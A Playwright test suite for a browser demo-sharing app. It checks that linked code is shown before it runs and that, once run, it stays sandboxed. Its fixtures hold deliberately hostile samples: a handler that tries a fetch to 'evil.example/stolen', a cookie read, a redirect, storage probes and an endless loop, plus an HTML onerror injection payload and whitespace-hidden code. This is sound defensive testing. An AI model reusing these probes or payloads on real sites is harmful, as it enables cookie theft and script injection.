import { readFileSync } from 'node:fs'
import type { Page } from '@playwright/test'
import { strToU8, unzipSync, zipSync } from 'fflate'
import { linkData, makeLink } from '../src/host/share/link'
import { violations } from './axe'
import { expect, requestLog, test } from './site'

const CARD = {
  title: 'Stranger <b>x</b>',
  emoji: '🐙',
  colorFrom: 'red',
  colorTo: 'purple',
  shortDescription:
    "<img src='https://evil.example/x.png' onerror='window.broken = true'> ![x](https://evil.example/y.png)",
  license: 'mit',
  models: ['digits', 'org/small-model'],
  tags: [],
}

const HOSTILE = `import { GPU, Interface, JSON as Json, Textbox } from 'sublet'
import * as ort from 'onnxruntime-web'

console.log('STRANGER at module scope')
const tried: Record<string, string> = {}
async function attempt(name: string, task: () => unknown) {
  try {
    tried[name] = 'done: ' + String(await task())
  } catch (error) {
    tried[name] = error instanceof Error ? error.name : 'refused'
  }
}
await attempt('indexedDB', () => new Promise((done, fail) => {
  const asked = indexedDB.open('sublet-own-demos')
  asked.onsuccess = () => done('open')
  asked.onerror = () => fail(asked.error)
}))
await attempt('fetch', () => fetch('https://evil.example/stolen'))
await attempt('site', () => fetch('./index.html'))
await attempt('location', () => Reflect.set(location, 'href', 'https://evil.example/') && location.href)
await attempt('document', () => Reflect.get(globalThis, 'document').cookie)
await attempt('caches', () => caches.keys())
const session = await ort.InferenceSession.create('models/digits/onnx/model.onnx')

const spin = GPU({ duration: 1 }, async () => {
  for (;;);
})
const double = GPU({ duration: (n: number) => n * 2, size: 'xlarge' }, async (n: number) => n * 2)

export default Interface({
  title: 'Stranger',
  inputs: [Textbox({ label: 'What', value: 'tell' })],
  outputs: [Json({ label: 'Tried' })],
  fn: async (what) => (what === 'spin' ? await spin() : { ...tried, inputs: session.inputNames.join() }),
})
void double
`
const HARMLESS = `import { GPU, Interface, Textbox } from 'sublet'
import { greeting } from './lib/greeting'
const greet = GPU({ duration: 2 }, async (name: string) => greeting(name))
export default Interface({
  title: 'Greeter',
  inputs: [Textbox({ label: 'Name', value: 'reader' })],
  outputs: [Textbox({ label: 'Greeting' })],
  fn: greet,
})
`
const GREETING = "export const greeting = (name: string): string => 'hello ' + name\n"

declare global {
  interface Window {
    loads: string[]
    broken?: boolean
  }
}

/** The route of a link that holds this handler. */
async function routeOf(handler: string, files: Record<string, string> = {}, card = CARD): Promise<string> {
  const sources = [
    { path: 'handler.ts', source: handler },
    ...Object.entries(files).map(([path, source]) => ({ path, source })),
  ]
  const link = await makeLink({ card, sources, texts: [] }, 'https://elsewhere.example/')
  if (!link.fits) throw new Error('too long')
  return `#/s/${linkData(link.url)}`
}

/** Every handler that a runner of this page is given, from its first script on. */
async function watchLoads(page: Page): Promise<void> {
  await page.addInitScript(() => {
    window.loads = []
    const post = MessagePort.prototype.postMessage
    MessagePort.prototype.postMessage = function (this: MessagePort, message: unknown, ...rest: unknown[]) {
      const text = JSON.stringify(message)
      if (text?.includes('"load"')) window.loads.push(text)
      return Reflect.apply(post, this, [message, ...rest])
    }
  })
}

const consent = (page: Page) => page.getByRole('region', { name: 'Before it runs' })
const result = (page: Page) => page.getByRole('region', { name: 'Result' })
const dialog = (page: Page, name = 'Import a demo') => page.getByRole('dialog', { name })
const own = (page: Page) => page.getByRole('list', { name: 'Yours' }).getByRole('link')

test('a link shows what it holds, and runs nothing of it before the visitor says so', async ({ context }) => {
  const page = await context.newPage()
  const said: string[] = []
  const asked: string[] = []
  page.on('console', (message) => said.push(message.text()))
  page.on('request', (request) => asked.push(request.url()))
  await watchLoads(page)
  // The server of all these tests: what others asked of it is in the log, too.
  const earlier = (await requestLog(page)).length
  const modelsAsked = async () =>
    (await requestLog(page)).slice(earlier).filter((path) => path.includes('/models/'))
  const route = await routeOf(HOSTILE)
  await page.goto(`./${route}`)

  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Stranger <b>x</b>')
  await expect(page.getByText("<img src='https://evil.example/x.png'")).toBeVisible()
  await expect(page.getByRole('region', { name: 'handler.ts' })).toContainText('STRANGER at module scope')
  const gpu = page.getByRole('region', { name: 'What it asks of the GPU' })
  await expect(gpu).toContainText('spin 1 s, large')
  await expect(gpu).toContainText(
    'double as long as this says: (n: number) => n * 2, xlarge, which counts twice',
  )
  const models = page.getByRole('region', { name: 'Models' })
  await expect(models).toContainText('digits comes with this site')
  await expect(models).toContainText('org/small-model would be downloaded from the Hugging Face hub')
  expect(await violations(page)).toEqual([])

  // The spare runner is up by now, and knows nothing of it.
  await page.waitForFunction(() => document.querySelector('iframe') !== null)
  await consent(page).getByRole('button', { name: 'Only look' }).click()
  await expect(consent(page)).toContainText('You are looking. Nothing of it runs.')
  await expect(page.getByRole('heading', { name: 'Its code' })).toBeFocused()
  expect(await page.evaluate(() => window.loads.filter((load) => load.includes('STRANGER')))).toEqual([])
  expect(said.filter((text) => text.includes('STRANGER'))).toEqual([])
  expect(asked.filter((url) => !url.startsWith('http://127.0.0.1:') && !/^(blob|data):/.test(url))).toEqual(
    [],
  )
  expect(await modelsAsked()).toEqual([])
  expect(await page.evaluate(() => window.broken)).toBeUndefined()

  await consent(page).getByRole('button', { name: 'Throw away' }).click()
  await expect(page).toHaveURL(/#\/$/)
  await expect(page.getByText('Thrown away. Nothing of it was kept.', { exact: true })).toBeVisible()
  await expect(page.getByRole('list', { name: 'Yours' })).toHaveCount(0)
  expect(await page.evaluate(() => window.loads.filter((load) => load.includes('STRANGER')))).toEqual([])

  // What was watched for does come when the visitor says so.
  await page.goto(`./${route}`)
  await consent(page).getByRole('button', { name: 'Keep and run it' }).click()
  await expect(page.getByRole('region', { name: 'Log' })).toContainText('STRANGER at module scope')
  expect(await page.evaluate(() => window.loads.some((load) => load.includes('STRANGER')))).toBe(true)
  // It asks for its model after it has said that it is there.
  await expect
    .poll(async () => (await modelsAsked()).some((path) => path.includes('/models/digits/')))
    .toBe(true)
})

test('kept, it runs walled off: nothing of the visitor’s is touched, and its loop ends with its lease', async ({
  site,
}) => {
  test.slow()
  const { page } = site
  // What the visitor has: a demo of their own, something typed, and a run in the history.
  await page.getByRole('button', { name: 'New demo' }).click()
  await dialog(page, 'New demo').getByRole('button', { name: 'Text in, text out' }).click()
  await page.getByRole('button', { name: 'Run', exact: true }).click()
  await expect(result(page)).toContainText('HELLO!')
  const field = page.getByRole('textbox').filter({ visible: true }).first()
  await field.fill('my draft')
  const mine = new URL(page.url()).hash

  await page.evaluate((to) => location.assign(to), await routeOf(HOSTILE))
  await consent(page).getByRole('button', { name: 'Keep and run it' }).click()
  await expect(page).toHaveURL(/#\/d\/stranger-b-x-b$/)
  await expect(page.getByText('Its own share of the quota.')).toBeVisible()
  await page.getByRole('button', { name: 'Run', exact: true }).filter({ visible: true }).click()
  const tried = result(page).filter({ visible: true })
  await expect(tried).toContainText('SecurityError')
  await expect(tried).not.toContainText('done: open')
  const told = (await tried.textContent()) ?? ''
  expect(told).not.toContain('evil.example')
  expect(told).toContain('"fetch": "TypeError"')
  expect(told).toContain('"site": "SubletError"')
  expect(told).toContain('"document": "TypeError"')

  await page.getByLabel('What').filter({ visible: true }).fill('spin')
  await page.getByRole('button', { name: 'Run', exact: true }).filter({ visible: true }).click()
  await expect(page.locator('[data-code="TaskAborted"]')).toBeVisible()

  expect(new URL(page.url()).origin).toMatch(/127\.0\.0\.1/)
  await page.evaluate((to) => location.assign(to), mine)
  await expect(page.getByRole('textbox').filter({ visible: true }).first()).toHaveValue('my draft')
  await page.getByRole('button', { name: 'Run', exact: true }).filter({ visible: true }).click()
  await expect(result(page).filter({ visible: true })).toContainText('MY DRAFT')
  await page.getByRole('link', { name: 'Gallery', exact: true }).click()
  await expect(own(page)).toHaveCount(2)
  await expect(page.getByRole('list', { name: 'Yours' })).toContainText('somebody else’s')
})

test('a demo goes by its link from one browser to another, as it was edited, and is known there again', async ({
  context,
  browser,
  site,
  baseURL,
}) => {
  test.slow()
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  const { page } = site
  await page.evaluate((to) => location.assign(to), await routeOf(HARMLESS, { 'lib/greeting.ts': GREETING }))
  await consent(page).getByRole('button', { name: 'Keep and run it' }).click()
  await expect(page.getByLabel('Name')).toHaveValue('reader')
  await page.getByLabel('Name').fill('a secret of mine')
  await page.getByRole('button', { name: 'Share' }).click()
  const menu = page.getByRole('menu')
  await expect(menu).toContainText(
    /Its card and its \d files, as they run now. The link has [\d,]+ characters/,
  )
  expect(await violations(page)).toEqual([])
  await page.getByRole('menuitem', { name: 'Copy link' }).click()
  await expect(page.getByText('The link to Stranger <b>x</b> is copied.', { exact: true })).toBeVisible()
  const url = await page.evaluate(() => navigator.clipboard.readText())
  expect(url.length).toBeLessThan(2_000)
  expect(url).toContain(`${baseURL}#/s/1.`)

  const elsewhere = await browser.newContext({ serviceWorkers: 'block' })
  const other = await elsewhere.newPage()
  await other.goto(url)
  await expect(other.getByRole('heading', { level: 1 })).toHaveText('Stranger <b>x</b>')
  await other.getByText('lib/greeting.ts', { exact: true }).click()
  await expect(other.getByRole('region', { name: 'lib/greeting.ts' })).toContainText("'hello ' + name")
  await expect(other.getByText('a secret of mine')).toHaveCount(0)
  await consent(other).getByRole('button', { name: 'Keep and run it' }).press('Enter')
  await other.getByRole('button', { name: 'Run', exact: true }).click()
  await expect(result(other)).toContainText('hello reader')

  await other.goto('about:blank')
  await other.goto(url)
  await expect(consent(other)).toContainText('You have kept this already')
  await consent(other).getByRole('link', { name: 'Open the one you kept' }).click()
  await expect(other).toHaveURL(/#\/d\/stranger-b-x-b$/)
  await elsewhere.close()
})

test('make it mine: the mark goes, and the demo starts again', async ({ site }) => {
  const { page } = site
  await page.evaluate((to) => location.assign(to), await routeOf(HARMLESS, { 'lib/greeting.ts': GREETING }))
  await consent(page).getByRole('button', { name: 'Keep and run it' }).click()
  await expect(page.getByText('Its own share of the quota.')).toBeVisible()
  expect(await violations(page)).toEqual([])
  await page.getByRole('button', { name: 'Make it mine…' }).press('Enter')
  const asking = dialog(page, 'Make Stranger <b>x</b> mine')
  await expect(asking).toContainText('It came from a link, on')
  expect(await violations(page)).toEqual([])
  await asking.getByRole('button', { name: 'Cancel' }).click()
  await expect(page.getByText('Its own share of the quota.')).toBeVisible()
  await page.getByRole('button', { name: 'Make it mine…' }).click()
  await asking.getByRole('button', { name: 'Make it mine' }).click()
  await expect(page.getByText('Stranger <b>x</b> is yours now.', { exact: true })).toBeVisible()
  await expect(page.getByText('Its own share of the quota.')).toHaveCount(0)
  await page.getByRole('button', { name: 'Run', exact: true }).click()
  await expect(result(page)).toContainText('hello reader')
  await page.reload()
  await expect(page.getByText('yours', { exact: true })).toBeVisible()
})

test('a damaged link, one of a newer version, and one that holds something else', async ({ site }) => {
  const { page } = site
  const alert = page.getByRole('main').getByRole('alert')
  const refused = async (to: string, reason: string) => {
    await page.evaluate((hash) => location.assign(hash), to)
    await expect(alert).toContainText(reason)
    await expect(alert).toHaveAttribute('data-code', 'DemoRefused')
  }
  const route = await routeOf(HARMLESS)
  await refused(route.slice(0, -10), 'The link is damaged: some of it is missing')
  expect(await violations(page)).toEqual([])
  await refused(route.replace('/1.', '/7.'), 'version 7, and this page reads version 1')
  await refused('#/s/hello/world', 'The link is damaged')
  await refused('#/s/', 'The link is damaged')
  // Nothing that runs, but something to read; what is hidden in it is told.
  const broken = await routeOf(`export default {${' '.repeat(200)}steal()`)
  await page.evaluate((hash) => location.assign(hash), broken)
  await expect(alert).toContainText('Hidden text.')
  await expect(alert).toContainText('handler.ts:1')
  await consent(page).getByRole('button', { name: 'Keep and run it' }).click()
  await expect(consent(page).getByRole('alert')).toHaveAttribute('data-code', 'CompileFailed')
  await expect(page).toHaveURL(/#\/s\/1\./)
})

test('what is too long for a link goes as a zip, which is imported', async ({ site }) => {
  const { page } = site
  const noise = Array.from({ length: 12_000 }, (_, at) => ((at * 2_654_435_761) >>> 0).toString(36))
  const zip = zipSync({
    'long/handler.ts': strToU8(HARMLESS),
    'long/lib/greeting.ts': strToU8(GREETING),
    'long/noise.json': strToU8(JSON.stringify(noise)),
  })
  await page.getByRole('button', { name: 'Import', exact: true }).click()
  const chosen = { name: 'long.zip', mimeType: 'application/zip', buffer: Buffer.from(zip) }
  await dialog(page).getByLabel('Choose a .zip').setInputFiles(chosen)
  await dialog(page).getByRole('button', { name: 'Open the demo' }).click()
  // Of the visitor's own disk: theirs.
  await expect(page.getByText('yours', { exact: true })).toBeVisible()
  await page.getByRole('button', { name: 'Share' }).click()
  await expect(page.getByRole('menu')).toContainText(
    /Too long for a link: [\d,]+ characters, and 32,000 are the most/,
  )
  await expect(page.getByRole('menuitem', { name: 'Copy link' })).toBeDisabled()
  const downloading = page.waitForEvent('download')
  await page.getByRole('menuitem', { name: 'Download .zip' }).click()
  const download = await downloading
  const files = unzipSync(readFileSync(await download.path()))
  expect(Object.keys(files).toSorted()).toEqual([
    'long/README.md',
    'long/handler.ts',
    'long/lib/greeting.ts',
    'long/noise.json',
  ])
})

test('import from an address: shown first, whatever host lets it be read; refused with the way out', async ({
  site,
}) => {
  const { page } = site
  test.slow()
  const answers: Record<string, string | Buffer> = {
    '/o/r/main/greeter/handler.ts': HARMLESS,
    '/o/r/main/greeter/lib/greeting.ts': GREETING,
    '/o/r/main/greeter/README.md': '---\ntitle: From GitHub\nemoji: 🐈\n---\n',
  }
  const headers = { 'access-control-allow-origin': '*' }
  await page.route('https://raw.githubusercontent.com/**', async (route) => {
    expect((await route.request().allHeaders()).referer).toBeUndefined()
    const body = answers[new URL(route.request().url()).pathname]
    return route.fulfill(body === undefined ? { status: 404, headers } : { body, headers })
  })
  const zip = Buffer.from(zipSync({ 'handler.ts': strToU8(HARMLESS), 'lib/greeting.ts': strToU8(GREETING) }))
  await page.route('**/shared/demo.zip', (route) => route.fulfill({ body: zip }))
  const importFrom = async (address: string) => {
    if (!(await dialog(page).isVisible()))
      await page.getByRole('button', { name: 'Import', exact: true }).click()
    await dialog(page).getByLabel('From a link').fill(address)
    await dialog(page).getByLabel('From a link').press('Enter')
  }

  await importFrom('https://github.com/o/r/blob/main/greeter/handler.ts')
  await expect(page).toHaveURL(/#\/s\/fetched$/)
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('From GitHub')
  await expect(
    page.getByText('From https://raw.githubusercontent.com/o/r/main/greeter/handler.ts.'),
  ).toBeVisible()
  await expect(page.getByText('lib/greeting.ts', { exact: true })).toBeVisible()
  await consent(page).getByRole('button', { name: 'Keep and run it' }).click()
  await expect(page).toHaveURL(/#\/d\/from-github$/)
  await page.getByRole('button', { name: 'Run', exact: true }).click()
  await expect(result(page)).toContainText('hello reader')
  await expect(page.getByText('Its own share of the quota.')).toBeVisible()

  await page.getByRole('link', { name: 'Gallery', exact: true }).click()
  await importFrom(new URL('shared/demo.zip', page.url()).href)
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('demo')

  await page.getByRole('link', { name: 'Gallery', exact: true }).click()
  await importFrom('https://not-named.example/demo.zip')
  await expect(dialog(page).getByRole('alert')).toContainText('this site does not name it (CSP)')
  await expect(dialog(page).getByRole('alert')).toContainText('drop it on the gallery')
  expect(await violations(page)).toEqual([])
  await importFrom('no address')
  await expect(dialog(page).getByRole('alert')).toContainText('“no address” is no web address.')
  await importFrom(`https://other.example/${await routeOf(HARMLESS)}`)
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Stranger <b>x</b>')
})

test('inside the frame of another page it asks nothing', async ({ site }) => {
  const { page } = site
  const route = await routeOf(HARMLESS)
  await page.evaluate((to) => {
    const frame = document.createElement('iframe')
    frame.title = 'inner'
    frame.src = `${location.pathname}${to}`
    document.body.append(frame)
  }, route)
  const inner = page.frameLocator('iframe[title=inner]')
  await expect(inner.getByText('This page is shown inside another one.')).toBeVisible()
  await expect(inner.getByRole('button', { name: 'Keep and run it' })).toHaveCount(0)
})
